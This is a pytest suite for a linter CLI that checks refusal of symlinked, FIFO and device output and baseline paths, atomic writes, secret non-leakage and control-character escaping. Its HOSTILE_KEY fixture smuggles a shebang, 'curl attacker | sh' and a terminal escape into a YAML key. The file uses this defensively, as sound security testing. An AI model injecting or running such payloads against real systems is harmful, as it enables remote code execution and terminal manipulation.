"""--output and --write-baseline never write through a symlink or into a device; --baseline
reads regular files only, up to a size cap; report fields carry no raw control characters."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from mlflow_lint import safe_files

pytestmark = pytest.mark.services  # (no network is used; the marker lets the audit recorder run)

HOSTILE_KEY = "evil\n#!/bin/sh\ncurl attacker | sh\n\x1b]0;pwned\x07"


@pytest.fixture
def values(tmp_path: Path) -> Path:
    path = tmp_path / "values.yaml"
    path.write_text(json.dumps({"image": {"tag": "v2.14.1"}, HOSTILE_KEY: 1}))
    return path


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = outside / "deploy.sh"
    target.write_text("#!/bin/sh\necho deploying\n")
    target.chmod(0o755)
    return target


@pytest.mark.parametrize("fmt", ["text", "junit", "json", "sarif", "github"])
def test_symlinked_output_is_refused_and_the_target_unchanged(run_cli, values, victim, tmp_path, fmt):
    link = tmp_path / "report.out"
    link.symlink_to(victim)
    code, _, err = run_cli("--isolated", "--format", fmt, "--output", str(link), str(values))
    assert code == 2 and "symbolic link" in err
    assert victim.read_text() == "#!/bin/sh\necho deploying\n"
    assert link.is_symlink()


def test_symlinked_write_baseline_is_refused(run_cli, values, victim, tmp_path):
    link = tmp_path / "baseline.json"
    link.symlink_to(victim)
    code, _, err = run_cli("--isolated", "--write-baseline", str(link), str(values))
    assert code == 2 and "symbolic link" in err
    assert victim.read_text() == "#!/bin/sh\necho deploying\n"


def test_output_into_a_fifo_or_device_is_refused(run_cli, values, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    code, _, err = run_cli("--isolated", "--output", str(fifo), str(values))
    assert code == 2 and "not a regular file" in err
    code, _, err = run_cli("--isolated", "--output", "/dev/null", str(values))
    assert code == 2 and "not a regular file" in err


def test_output_replaces_a_regular_file_atomically_keeping_its_mode(run_cli, values, tmp_path):
    report = tmp_path / "report.txt"
    report.write_text("old")
    report.chmod(0o640)
    hard = tmp_path / "hardlink.txt"
    os.link(report, hard)
    code, _, _ = run_cli("--isolated", "--format", "text", "--output", str(report), str(values))
    assert code == 1 and "MLF" in report.read_text()
    assert stat.S_IMODE(report.stat().st_mode) == 0o640
    assert hard.read_text() == "old"  # a new file was renamed into place: the other link is untouched
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("fmt", ["text", "junit", "sarif", "github"])
def test_report_fields_carry_no_raw_control_characters(run_cli, values, fmt):
    _, out, _ = run_cli("--isolated", "--format", fmt, str(values))
    assert "\x1b" not in out and "\x07" not in out
    assert not any(line.startswith(("#!/bin/sh", "curl attacker")) for line in out.splitlines()), out
    assert "\\x1b" in out or "%5Cx1b" in out or "\\\\x1b" in out


@pytest.mark.parametrize("special", ["/dev/zero", "/dev/urandom"])
def test_baseline_from_a_device_is_refused_at_once(run_cli, values, special):
    code, _, err = run_cli("--isolated", "--baseline", special, str(values))
    assert code == 2 and "not a regular file" in err


def test_baseline_size_cap_and_fifo(run_cli, values, tmp_path, monkeypatch):
    big = tmp_path / "big.json"
    big.write_bytes(b" " * 64)
    monkeypatch.setattr("mlflow_lint.baseline.MAX_BYTES", 32)
    code, _, err = run_cli("--isolated", "--baseline", str(big), str(values))
    assert code == 2 and "larger than" in err
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    code, _, err = run_cli("--isolated", "--baseline", str(fifo), str(values))
    assert code == 2 and "not a regular file" in err


def test_read_text_refuses_symlinks(tmp_path):
    real = tmp_path / "real.json"
    real.write_text("{}")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    with pytest.raises(safe_files.UnsafePath):
        safe_files.read_text(str(link), 100)
    assert safe_files.read_text(str(real), 100) == "{}"


def test_a_symlink_committed_in_a_secrets_directory_is_not_followed(run_cli, tmp_path):
    runner_secret = tmp_path / "runner" / "ci-secret.yaml"
    runner_secret.parent.mkdir()
    runner_secret.write_text(
        "apiVersion: v1\nkind: Secret\nmetadata: {name: aws}\n"
        "stringData: {AWS_SECRET_ACCESS_KEY: runner-own-secret-value-0001}\n"
    )
    checkout = tmp_path / "checkout"
    (checkout / "k8s").mkdir(parents=True)
    (checkout / "k8s" / "aws.yaml").symlink_to(runner_secret)
    values = checkout / "values.yaml"
    values.write_text("image:\n  tag: v2.14.1\n")
    code, out, err = run_cli("--isolated", "--secrets", str(checkout / "k8s"), str(values))
    assert code == 2 and "symbolic link inside a --secrets directory" in err
    assert "runner-own-secret-value" not in out + err
    code, _, err = run_cli("--isolated", "--secrets", str(checkout / "k8s" / "aws.yaml"), str(values))
    assert code != 2, err  # named on the command line: the user's choice
